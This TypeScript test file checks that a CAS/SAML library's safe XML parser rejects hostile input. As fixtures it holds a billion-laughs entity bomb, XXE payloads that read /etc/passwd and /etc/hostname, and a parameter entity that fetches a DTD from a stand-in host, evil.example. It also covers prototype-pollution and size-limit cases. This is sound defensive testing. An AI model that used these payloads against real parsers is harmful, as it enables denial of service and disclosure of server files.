import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  ProtocolParseError,
  parseLogoutRequest,
  parseSamlResponse,
  parseSamlValidateRequest,
  parseServiceResponse,
  safeParseXml,
} from '../src/index.ts';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<cas:serviceResponse xmlns:cas="http://www.yale.edu/tp/cas">
  <cas:authenticationSuccess><cas:user>&lol9;</cas:user></cas:authenticationSuccess>
</cas:serviceResponse>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<cas:serviceResponse xmlns:cas="http://www.yale.edu/tp/cas">
  <cas:authenticationSuccess><cas:user>&xxe;</cas:user></cas:authenticationSuccess>
</cas:serviceResponse>`;

const PARAMETER_ENTITY = `<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><r/>`;

const SAML_XXE = `<!DOCTYPE e [<!ENTITY t SYSTEM "file:///etc/hostname">]>
<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>
<samlp:Request xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"><samlp:AssertionArtifact>&t;</samlp:AssertionArtifact></samlp:Request>
</SOAP-ENV:Body></SOAP-ENV:Envelope>`;

describe('safeParseXml: hostile input', () => {
  test('billion laughs is refused before any expansion', () => {
    const started = performance.now();
    assert.throws(() => parseServiceResponse(BILLION_LAUGHS), {
      name: 'ProtocolParseError',
      message: /DOCTYPE declarations are not allowed/,
    });
    assert.ok(performance.now() - started < 200);
  });

  test('external entities (XXE) are refused by every parser', () => {
    assert.throws(() => parseServiceResponse(XXE), ProtocolParseError);
    assert.throws(() => parseSamlValidateRequest(SAML_XXE), /DOCTYPE/);
    assert.throws(() => parseSamlResponse(XXE), ProtocolParseError);
    assert.throws(() => parseLogoutRequest(XXE), ProtocolParseError);
    assert.throws(() => safeParseXml(PARAMETER_ENTITY), ProtocolParseError);
  });

  test('declarations are refused in any case and position', () => {
    for (const xml of [
      '<!doctype r><r/>',
      '<r/><!DOCTYPE r>',
      '<r><!ENTITY x "y"></r>',
      '<!ELEMENT r ANY><r/>',
      '<r><!ATTLIST r a CDATA #IMPLIED></r>',
    ]) {
      assert.throws(() => safeParseXml(xml), ProtocolParseError, xml);
    }
  });

  test('undeclared entities are errors, never looked up', () => {
    assert.throws(() => safeParseXml('<r>&xxe;</r>'), /undefined XML entity &xxe;/);
    assert.throws(() => safeParseXml('<r>&nbsp;</r>'), /undefined XML entity/);
    assert.throws(() => safeParseXml('<r a="&copy;"/>'), /undefined XML entity/);
  });

  test('predefined entities and character references are decoded, once', () => {
    const root = safeParseXml('<r a="&lt;&#x41;&#66;&quot;">&amp;lt; &#38;#60; &apos;&gt;&#x1F600;</r>');
    assert.equal(root.attributes['a'], '<AB"');
    assert.equal(root.text, "&lt; &#60; '>😀");
  });

  test('character references to characters XML forbids are refused', () => {
    assert.throws(() => safeParseXml('<r>&#0;</r>'), ProtocolParseError);
    assert.throws(() => safeParseXml('<r>&#x1;</r>'), ProtocolParseError);
    assert.throws(() => safeParseXml('<r>&#xD800;</r>'), ProtocolParseError);
    assert.throws(() => safeParseXml('<r>&#x110000;</r>'), ProtocolParseError);
  });

  test('CDATA content is literal', () => {
    assert.equal(safeParseXml('<r><![CDATA[&amp; <x> &xxe;]]></r>').text, '&amp; <x> &xxe;');
  });

  test('size is capped in UTF-8 bytes, for strings and byte arrays', () => {
    const big = `<r>${'a'.repeat(2 * 1024 * 1024)}</r>`;
    assert.throws(() => safeParseXml(big), /exceeds 1048576 bytes/);
    assert.throws(() => safeParseXml(new TextEncoder().encode(big)), /exceeds/);
    assert.throws(() => safeParseXml(`<r>${'é'.repeat(60)}</r>`, { maxBytes: 100 }), /exceeds 100 bytes/);
    assert.equal(safeParseXml(`<r>${'é'.repeat(40)}</r>`, { maxBytes: 100 }).text.length, 40);
    assert.throws(() => parseServiceResponse(big), /exceeds/);
    assert.throws(
      () => parseServiceResponse(`{"serviceResponse":"${'a'.repeat(200)}"}`, 'json', { maxBytes: 100 }),
      /exceeds/,
    );
  });

  test('deep nesting is refused', () => {
    const deep = `${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`;
    assert.throws(() => safeParseXml(deep), ProtocolParseError);
  });

  test('malformed documents are ProtocolParseErrors', () => {
    for (const xml of [
      '',
      '   ',
      'hello',
      '<a><b></a>',
      '<a>',
      '<a/><b/>',
      '<a/>trailing',
      '<a>&</a>',
      '<a x=1/>',
      '<a b="1" b="2"/>',
    ]) {
      assert.throws(() => safeParseXml(xml), ProtocolParseError, JSON.stringify(xml));
    }
  });

  test('names that collide with Object.prototype stay plain data', () => {
    const root = safeParseXml(
      '<r __proto__="p" constructor="c"><__proto__ polluted="yes">x</__proto__><constructor>y</constructor><toString/></r>',
    );
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
    assert.deepEqual(
      root.children.map((c) => c.name),
      ['__proto__', 'constructor', 'toString'],
    );
    assert.equal(Object.getOwnPropertyDescriptor(root.attributes, '__proto__')?.value, 'p');
    assert.equal(root.attributes['constructor'], 'c');
    assert.equal(root.children[0]!.attributes['polluted'], 'yes');
    const parsed = parseServiceResponse(
      '<serviceResponse><authenticationSuccess><user>u</user><__proto__>x</__proto__><constructor>y</constructor></authenticationSuccess></serviceResponse>',
    );
    assert.equal(parsed.kind, 'success');
    if (parsed.kind === 'success') {
      assert.deepEqual(Object.getOwnPropertyDescriptor(parsed.attributes, '__proto__')?.value, ['x']);
      assert.deepEqual(parsed.attributes['constructor'], ['y']);
    }
  });
});
